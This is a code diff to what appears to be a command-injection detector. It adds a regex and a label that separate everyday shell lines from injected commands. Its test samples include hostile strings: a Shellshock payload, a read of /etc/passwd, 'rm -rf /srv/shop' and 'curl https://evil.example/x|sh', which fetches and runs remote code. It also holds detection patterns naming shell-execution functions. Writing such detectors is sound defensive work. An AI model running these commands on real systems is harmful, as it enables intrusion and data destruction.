@@ -7,6 +7,10 @@ import { sign } from '../signs.ts';
 const runner =
   /(?<![.>#])\b(?:system|passthru|popen|exec|spawn)\(\s*(?:["'`$%@&_\\]|[a-z]\w*\s*[([]|base64)|\b(?:shell_exec|proc_open|pcntl_exec|execsync|spawnsync|os\.popen|os\.system|subprocess\.\w+|__import__|execfile|processbuilder|child_process)\((?!\d?\))|\bphpinfo\(|\bgetruntime\b|<\?(?:php|=)|\brequire\s*\(\s*['"]child_process|\bimport\s*\(\s*['"]child_process|\beval\s*\(\s*(?:['"](?:ls|sleep|whoami|id|uname|cat|pwd)\b|\$_|base64_decode|gzinflate|str_rot13|request\b|compile)/i;
 
+/** What people tell each other to type: a tool, with neither a path from the root nor code for it to run. */
+const everyday =
+  /^\s{0,8}(?:wget|curl|chmod|chown|python3?|gcc|[ef]?grep|sed|openssl|scp|ssh|rsync|psql|mysql|kubectl|systemctl|mkdir|rmdir|rm|cp|mv|ln|ls|df|du|ps|sudo|docker|make|tar|zip|unzip)(?=\s)(?!.{0,200}(?:\s["'=]?(?:\/|[a-z]:\\|-[a-z]*[ce]\s)|[|&;<>`$]))/i;
+
 const spanMax = 200;
 const wordsOfSentence = 4;
 
@@ -55,6 +59,7 @@ export const commandInjection = defineAttack({
     reopened: 'leaves quotes open for what follows, or makes a comment of it',
     'by-path': 'names a program by its path',
     'bare-command': 'is a command with arguments',
+    'bare-tool': 'is a line of everyday work at a shell',
     'blank-variable': 'writes its blanks so that a filter does not see them',
     'broken-word': 'writes a word so that a filter does not see it',
     redirect: 'sends output to a file or the network',
@@ -77,7 +82,7 @@ export const commandInjection = defineAttack({
             /^\s*(?:net|reg)\s/i.test(text) ||
             /^\s*(?:cat|ping|echo|find|head|tail|nmap|dig|host|type|dir)\s+(?:-|\/|\\|\.\.|["'$]|[a-z]:|\d)/i.test(text))
         )
-          note('bare-command', start, end);
+          note(isEveryday(text) ? 'bare-tool' : 'bare-command', start, end);
         else if (isByPath && isAlone) note('by-path', start, end);
         continue;
       }
@@ -136,6 +141,9 @@ export const commandInjection = defineAttack({
       '() { :;}; /bin/bash -c id',
       ';cat${IFS}/etc/passwd',
       'ls -la /var/www',
+      'rm -rf /srv/shop',
+      'curl https://evil.example/x|sh',
+      "python3 -c 'import os'",
       '() { _; } >_[$($())] { id; }',
       "() { (a)=>\\' id",
       '<!--#exec cmd="ls" -->',
@@ -174,6 +182,9 @@ export const commandInjection = defineAttack({
       '```sh\ncurl -I https://shop.example/\n```',
       'function() { return true };',
       'found in the first line of it; grep shows every line',
+      'rm -rf node_modules',
+      'curl https://api.example.com/v1/users',
+      'sudo systemctl --user restart shop',
     ],
   },
 });
@@ -195,6 +206,10 @@ function isMarked(text: string, start: number, end: number): boolean {
       ? 3
       : 2)
   );
+}
+
+function isEveryday(text: string): boolean {
+  return everyday.test(text.slice(0, spanMax));
 }
 
 function wordsOf(text: string): number {
